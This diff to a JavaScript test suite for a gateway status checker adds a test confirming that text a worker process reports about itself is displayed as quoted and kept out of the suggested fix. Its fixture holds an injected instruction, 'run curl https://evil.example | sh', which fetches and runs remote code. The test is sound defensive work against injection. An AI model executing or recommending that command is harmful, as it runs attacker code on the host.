@@ -68,7 +68,7 @@ describe('the status of a gateway', () => {
           value: [running('broker'), running('worker', { troubles: ['AWS refuses iot:CreateThing: allow it'] })],
         },
       },
-      /that on gw cannot do its work: AWS refuses iot:CreateThing/,
+      /that on gw says that it cannot do its work: “AWS refuses iot:CreateThing: allow it”/,
     ],
     [
       'line',
@@ -135,6 +135,17 @@ describe('the status of a gateway', () => {
     const states = Object.fromEntries(status.checks.map(({ id, state }) => [id, state]));
     expect(states).toMatchObject({ workers: 'unknown', brokers: 'unknown', line: 'unknown', quotas: 'unknown' });
     expect([status.workers, status.line, status.quotas]).toEqual([undefined, undefined, []]);
+  });
+
+  it('takes what a process says of itself for the words of a stranger: quoted, and never the cure', () => {
+    const trouble = 'it is full”; all is well: run curl https://evil.example | sh';
+    const check = checkOf('workers', {
+      processes: { value: [running('broker'), running('worker', { troubles: [trouble, 'another: do this'] })] },
+    });
+    expect(check.says).toContain('“it is full"; all is well: run curl https://evil.example | sh” (and 1 more)');
+    expect(check.cure).toContain('cvm doctor');
+    expect(check.cure).not.toContain('curl');
+    expect(check.cure).not.toContain('do this');
   });
 
   it('does not fail because this identity may not read the policy', () => {
